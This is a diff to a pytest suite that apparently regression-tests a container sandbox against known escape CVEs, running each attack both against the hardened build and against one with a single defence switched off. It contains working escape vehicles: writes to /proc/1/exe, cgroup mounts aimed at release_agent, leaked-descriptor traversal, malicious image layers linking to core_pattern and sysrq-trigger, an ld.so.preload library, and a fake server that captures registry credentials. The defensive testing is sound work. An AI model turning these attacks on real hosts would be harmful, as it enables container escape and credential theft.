@@ -1,11 +1,16 @@
 """One test for each past hole of others, tried from inside or through an image.
 
-Each also shows the attack succeeding in a build with -Dattack_switches=true, where DAIV_SANDBOX_ATTACK_WITHOUT names
-the one defence that is off: else it would prove nothing. The list of switches is runtime/'s.
+Each shows two things: that the attack fails here, and that it is a real one. For the latter the same attack is run
+against a build with -Dattack_switches=true whose DAIV_SANDBOX_ATTACK_WITHOUT names the one defence that is off
+(runtime/attack_switches.hpp). Where the defence is not a step that can be left out (the agent is static, the registry
+client knows no foreign URLs), the attack's vehicle is shown to work on a program that lacks it.
 """
+import http.server
 import json
-import os
 import pathlib
+import subprocess
+import tarfile
+import threading
 
 import pytest
 
@@ -13,8 +18,9 @@ import daemon as daemons
 import images
 import oci
 from daemon import Refused
+from fake_registry import FakeRegistry
 from inside import python
-from oci import Layer, entry, hardlink, symlink
+from oci import Layer, entry, symlink
 
 
 @pytest.fixture(scope="session")
@@ -22,18 +28,329 @@ def attack_build(request, build):
     path = request.config.getoption("--attack-build")
     if not path:
         pytest.skip("no build with -Dattack_switches=true was given")
-    return pathlib.Path(path)
+    return pathlib.Path(path).resolve()
 
 
 @pytest.fixture
-def without(attack_build):
-    """without(defence): the API of a daemon whose runtime lacks that one defence."""
+def against(build, request):
+    """against(defence=None, **settings): the API of a daemon of its own; with DEFENCE named, one that lacks it."""
     made = []
 
-    def make(defence):
-        made.append(daemons.Daemon(attack_build, {"DAIV_SANDBOX_ATTACK_WITHOUT": defence}))
+    def make(defence=None, **settings):
+        tree = request.getfixturevalue("attack_build") if defence else build
+        made.append(daemons.Daemon(tree, {**settings, **({"DAIV_SANDBOX_ATTACK_WITHOUT": defence} if defence else {})}))
         return made[-1].start().api()
 
     yield make
     for one in made:
         one.remove()
+
+
+ROOT_INSIDE = {"DAIV_SANDBOX_RUN_UID": "0", "DAIV_SANDBOX_RUN_GID": "0"}
+
+
+def try_session(api, reference, command):
+    """(output, exit code) of COMMAND in a session of the image, or the status that refused the session."""
+    try:
+        session = api.create(reference)
+    except Refused as refused:
+        return refused.status
+    try:
+        return api.run_one(session, command)
+    finally:
+        api.close(session, force=True)
+
+
+# --- CVE-2019-5736: the runtime's own program is overwritten through /proc/<pid>/exe -----------------------------------
+
+OVERWRITE_AGENT = """
+def write():
+    with open('/proc/1/exe', 'r+b') as program:
+        program.write(program.read(1))
+print(attempt(write))
+"""
+
+
+def overwrite_agent(api, debian):
+    session = api.create(debian)
+    try:
+        return python(api, session, OVERWRITE_AGENT)
+    finally:
+        api.close(session, force=True)
+
+
+def test_cve_2019_5736_the_agents_program_cannot_be_written(against, debian):
+    assert overwrite_agent(against(**ROOT_INSIDE), debian) != "ok"
+
+
+def test_cve_2019_5736_succeeds_without_the_sealed_agent(against, debian):
+    before = overwrite_agent(against(**ROOT_INSIDE), debian)
+    assert overwrite_agent(against("sealed_agent", **ROOT_INSIDE), debian) != before
+
+
+# --- CVE-2019-14271: a helper that enters the container loads the container's libraries --------------------------------
+
+@pytest.fixture(scope="session")
+def marking_library(tmp_path_factory):
+    """A shared library that leaves a file with the loading program's name."""
+    folder = tmp_path_factory.mktemp("library")
+    source = folder / "mark.c"
+    source.write_text("#include <stdio.h>\n#include <errno.h>\n"
+                      "__attribute__((constructor)) static void mark(void) {\n"
+                      "  FILE* f = fopen(\"/workspace/tmp/loaded\", \"a\");\n"
+                      "  if (f) { fprintf(f, \"%s\\n\", program_invocation_short_name); fclose(f); }\n}\n")
+    subprocess.run(["gcc", "-D_GNU_SOURCE", "-shared", "-fPIC", "-o", folder / "mark.so", source], check=True)
+    return (folder / "mark.so").read_bytes()
+
+
+def test_cve_2019_14271_the_agent_loads_no_library_of_the_image(api, start, push, marking_library):
+    image = images.get("debian", pathlib.Path(__file__).parents[2] / "build/images")
+    library = "/lib/x86_64-linux-gnu/mark.so"
+    names = [f"usr/lib/x86_64-linux-gnu/libnss_{name}.so.2" for name in ("files", "dns", "compat")]
+    image.layers.append(Layer.of(entry("etc/ld.so.preload", library + "\n"), entry("usr" + library, marking_library, mode=0o755),
+                                 *(entry(name, marking_library, mode=0o755) for name in names)))
+    session = start(push(image, "preload"))
+    assert api.seed(session, repo=oci.tar(entry("a", "x")))[0] == 204
+    for operation, body in (("ls", {"path": "/workspace"}), ("read", {"path": "/workspace/repo/a"}),
+                            ("grep", {"path": "/workspace", "pattern": "x"}), ("glob", {"path": "/workspace", "pattern": "**"})):
+        assert api.fs(session, operation, **body)["error"] is None
+    api.write(session, "/workspace/repo/b", "y")
+    # Nothing but this first command's own shell and programs ever loaded it: so the vehicle works, and the agent is no rider.
+    loaded = set(api.output(session, "cat /workspace/tmp/loaded").split())
+    assert "bash" in loaded
+    assert loaded <= {"bash", "cat", "sh"}
+
+
+# --- CVE-2021-30465, CVE-2024-1753: a target of the runtime's own mounts leads through the image's links out -----------
+
+def links_out(target):
+    """An image whose every place that the runtime mounts on or writes to is a link out of the root."""
+    out = "../" * 12 + str(target).lstrip("/")
+    places = ["dev", "proc", "sys", "workspace", "etc"]
+    kept = [item for item in images.busybox_entries() if item[0].name.split("/")[0] not in places]
+    return oci.Image([Layer.of(*kept, *(symlink(place, out) for place in places))], {"Env": images.ENVIRONMENT})
+
+
+@pytest.mark.parametrize("defence", [None, "rooted_targets"])
+def test_cve_2021_30465_mounts_do_not_follow_the_images_links(against, push, tmp_path, defence):
+    tmp_path.chmod(0o777)
+    (tmp_path / "hosts").write_text("the host's")
+    result = try_session(against(defence), push(links_out(tmp_path), "links-out"), "echo x > /workspace/repo/planted; echo ran")
+    untouched = [path.name for path in tmp_path.iterdir()] == ["hosts"] and (tmp_path / "hosts").read_text() == "the host's"
+    if defence is None:
+        assert untouched and result in (400, ("ran\n", 0))
+    else:
+        assert not untouched or result not in (400, ("ran\n", 0)), "without the defence the links are followed"
+
+
+def test_cve_2024_1753_a_folder_of_the_image_that_is_a_link_to_the_root_shows_no_host(against, push):
+    image = images.busybox({"Volumes": {"/data": {}}, "WorkingDir": "/data"},
+                           Layer.of(symlink("data", "/"), symlink("workspace", "../../../../../../.."), symlink("mnt", "/proc/1/root")))
+    output, code = try_session(against(), push(image, "link-to-root"), "ls /workspace/ /data/ /mnt/ 2>&1")
+    host_only = {"boot", "lost+found", "srv", "media"} & {path.name for path in pathlib.Path("/").iterdir()}
+    assert not host_only & set(output.split())
+
+
+# --- CVE-2022-0492: a cgroup's release_agent runs a program on the host -------------------------------------------------
+
+RELEASE_AGENT = """
+import os
+os.makedirs('/tmp/cg', exist_ok=True)
+results = []
+for kind in (b'cgroup', b'cgroup2'):
+    for options in (b'rdma', b'memory', b'none,name=x', b''):
+        results.append(call(165, kind, b'/tmp/cg', kind, 0, options))
+agents = [os.path.join(folder, name) for folder, _, names in os.walk('/sys/fs/cgroup') for name in names
+          if name == 'release_agent' and os.access(os.path.join(folder, name), os.W_OK)]
+print('mounted' if 'ok' in results or agents else 'refused')
+"""
+
+
+@pytest.mark.parametrize("defence", [None, "dropped_privileges"])
+def test_cve_2022_0492_no_cgroup_can_be_mounted(against, debian, defence):
+    api = against(defence, **ROOT_INSIDE)
+    session = api.create(debian)
+    result = python(api, session, RELEASE_AGENT)
+    api.close(session, force=True)
+    assert result == ("refused" if defence is None else "mounted")
+
+
+# --- CVE-2024-21626: a descriptor of the host that was left open leads out ---------------------------------------------
+
+LEAKED = """
+found = []
+for owner in ('self', '1'):
+    for number in range(3, 64):
+        base = f'/proc/{owner}/fd/{number}'
+        try:
+            target = os.readlink(base)
+            if owner == 'self' and number == int(os.readlink('/proc/self/fd/3') == target) + 2: continue
+            if os.path.isdir(base) and os.path.exists(base + '/../..') and not target.startswith('/proc'):
+                found.append(f'{base} {target}')
+        except OSError:
+            pass
+print(found or 'none')
+"""
+
+
+@pytest.mark.parametrize("defence", [None, "closed_descriptors"])
+def test_cve_2024_21626_no_descriptor_of_the_host_is_left(against, debian, defence):
+    api = against(defence)
+    session = api.create(debian)
+    result = python(api, session, LEAKED)
+    api.close(session, force=True)
+    assert (result == "none") == (defence is None), result
+
+
+@pytest.mark.parametrize("number", range(3, 12))
+def test_cve_2024_21626_a_working_directory_through_a_descriptor(api, start, push, number):
+    session = start(push(images.busybox({"WorkingDir": f"/proc/self/fd/{number}/../../.."}), f"workdir-{number}"))
+    assert api.run_one(session, "pwd") == ("/workspace/repo\n", 0)
+
+
+# --- CVE-2025-31133, CVE-2025-52565, CVE-2025-52881: masks and nodes that the image redirects ---------------------------
+
+def with_dev(**links):
+    return images.busybox(None, Layer.of(*(symlink(f"dev/{name}", target) for name, target in links.items())))
+
+
+@pytest.mark.parametrize("defence", [None, "masked_paths"])
+def test_cve_2025_31133_a_mask_is_never_the_images_dev_null(against, push, defence):
+    image = with_dev(null="/proc/sys/kernel/core_pattern", zero="/proc/sysrq-trigger", full="/etc/passwd")
+    command = ("stat -c %F /dev/null; [ -w /proc/sys/kernel/core_pattern ] && echo writable; "
+               "grep -q ' /proc/sys ro' /proc/mounts || echo unmasked; [ -s /proc/timer_list ] && echo visible; true")
+    output, code = try_session(against(defence, **ROOT_INSIDE), push(image, "dev-null"), command)
+    assert "character special file" in output
+    assert ("unmasked" in output) == (defence is not None), output
+    assert "writable" not in output or defence
+
+
+def test_cve_2025_52565_dev_console_is_never_the_images_link(against, push):
+    image = images.busybox(None, Layer.of(symlink("dev/console", "/proc/sys/kernel/core_pattern"), symlink("dev/ptmx", "/proc/sysrq-trigger"),
+                                          entry("dev/pts"), symlink("dev/pts/0", "/proc/sys/kernel/core_pattern")))
+    output, code = try_session(against(**ROOT_INSIDE), push(image, "console"),
+                               "[ -L /dev/console ] && readlink /dev/console; [ -L /dev/pts/0 ] && readlink /dev/pts/0; "
+                               "grep -e core_pattern -e sysrq /proc/mounts; echo end")
+    assert "core_pattern" not in output and output.endswith("end\n")
+
+
+@pytest.mark.parametrize("defence", [None, "verified_mounts"])
+def test_cve_2025_52881_proc_is_the_kernels(against, push, defence):
+    """A tree of the image in the place of /proc, whose files redirect the runtime's own writes."""
+    kept = [item for item in images.busybox_entries() if item[0].name != "proc"]
+    fake = [entry("proc"), entry("proc/self"), entry("proc/self/attr"), symlink("proc/self/attr/exec", "/proc/sysrq-trigger"),
+            symlink("proc/self/uid_map", "/proc/sys/kernel/core_pattern"), symlink("proc/sys", "/etc"), entry("proc/fake", "x")]
+    image = oci.Image([Layer.of(*kept, *fake)], {"Env": images.ENVIRONMENT})
+    result = try_session(against(defence), push(image, "fake-proc"), "[ -e /proc/fake ] && echo fake; grep ' /proc proc' /proc/mounts >/dev/null && echo real")
+    assert result == ("real\n", 0)
+
+
+# --- CVE-2020-15157: credentials go to a host that the image names -----------------------------------------------------
+
+class Attacker:
+    """A web server that remembers the headers of whoever comes, and serves one blob."""
+
+    def __init__(self, blob):
+        headers = self.headers = []
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self):
+                headers.append(dict(self.headers))
+                self.send_response(200)
+                self.send_header("Content-Length", str(len(blob)))
+                self.end_headers()
+                self.wfile.write(blob)
+
+            def log_message(self, *_):
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        # Another host name than the registry's, so that it is another host to a client.
+        self.url = f"http://localhost:{self.server.server_address[1]}/blob"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def close(self):
+        self.server.shutdown()
+        self.server.server_close()
+
+
+def token_challenge(registry):
+    value = f'Bearer realm="http://{registry.address}/token",service="fake",scope="repository:app:pull"'
+    return lambda handler: None if handler.headers.get("Authorization") == "Bearer secret" else value
+
+
+def test_cve_2020_15157_no_credential_follows_a_foreign_url(api):
+    image = images.busybox(None, Layer.of(entry("opt/foreign", "x")))
+    with FakeRegistry(image, token=lambda _: (200, {"token": "secret"})) as registry:
+        layer = image.layers[-1]
+        attacker = Attacker(layer.stored)
+        manifest = json.loads(registry.manifest)
+        manifest["layers"][-1]["mediaType"] = "application/vnd.docker.image.rootfs.foreign.diff.tar.gzip"
+        manifest["layers"][-1]["urls"] = [attacker.url]
+        registry.manifest = json.dumps(manifest).encode()
+        del registry.blobs[oci.digest(layer.stored)]
+        registry.challenge = token_challenge(registry)
+        try_session(api, registry.reference, "true")
+        attacker.close()
+        assert not [headers for headers in attacker.headers if "Authorization" in headers]
+
+
+def test_cve_2020_15157_no_credential_follows_a_redirect(api):
+    """The vehicle works: the redirect is followed, only without the token."""
+    image = images.busybox(None, Layer.of(entry("opt/redirected", "yes")))
+    with FakeRegistry(image, token=lambda _: (200, {"token": "secret"})) as registry:
+        layer = image.layers[-1]
+        attacker, ask = Attacker(layer.stored), token_challenge(registry)
+
+        def challenge(handler):
+            asked = ask(handler)
+            if asked is None and handler.path.endswith(oci.digest(layer.stored)):
+                handler.answer(307, b"", Location=attacker.url)
+                raise ConnectionAbortedError  # answered already
+            return asked
+
+        registry.challenge = challenge
+        registry.server.handle_error = lambda *_: None
+        assert try_session(api, registry.reference, "cat /opt/redirected") == ("yes", 0)
+        attacker.close()
+        assert len(attacker.headers) == 1 and "Authorization" not in attacker.headers[0]
+
+
+# --- CVE-2021-29136: a layer whose root entry is a link ------------------------------------------------------------------
+
+@pytest.mark.parametrize("root", [".", "./", "/", ""])
+def test_cve_2021_29136_a_root_entry_that_is_a_link_replaces_nothing(api, push, daemon, tmp_path, root):
+    tmp_path.chmod(0o777)
+    layer = oci.tar(symlink(root, str(tmp_path)), entry("planted", "x"))
+    result = try_session(api, push(images.busybox(None, Layer.from_tar(layer)), "root-link"), "ls -d /bin")
+    assert result in (400, ("/bin\n", 0))
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_cve_2021_29136_escapes_a_careless_unpacker(tmp_path):
+    """The archive is a real attack: tar, told to trust it, unlinks the folder and writes where the link leads."""
+    target, outside = tmp_path / "root" / "layer", tmp_path / "outside"
+    target.mkdir(parents=True)
+    outside.mkdir()
+    archive = tmp_path / "layer.tar"
+    archive.write_bytes(oci.tar(symlink("layer", str(outside)), entry("layer/planted", "x")))
+    target.rmdir()
+    with tarfile.open(archive) as opened:
+        for member in opened:
+            opened._extract_member(member, str(tmp_path / "root" / member.name))  # without the filter of PEP 706
+    assert (outside / "planted").exists()
+
+
+# --- CVE-2021-41190: one document that is a manifest and an index -------------------------------------------------------
+
+@pytest.mark.parametrize("change", [
+    {"manifests": []}, {"mediaType": oci.OCI_INDEX}, {"manifests": [{"mediaType": oci.OCI_MANIFEST, "digest": "sha256:" + "0" * 64, "size": 1}]}],
+    ids=["both lists", "other type", "both filled"])
+def test_cve_2021_41190_an_ambiguous_manifest_is_refused(api, change):
+    image = images.busybox(None, Layer.of(entry("opt/ambiguous", "x")))
+    with FakeRegistry(image) as registry:
+        assert try_session(api, registry.reference, "cat /opt/ambiguous") == ("x", 0), "unambiguous, it is served"
+        registry.manifest = json.dumps({**json.loads(registry.manifest), **change}).encode()
+        with pytest.raises(Refused) as refused:
+            api.create(f"{registry.address}/app:ambiguous")
+        assert refused.value.status == 400
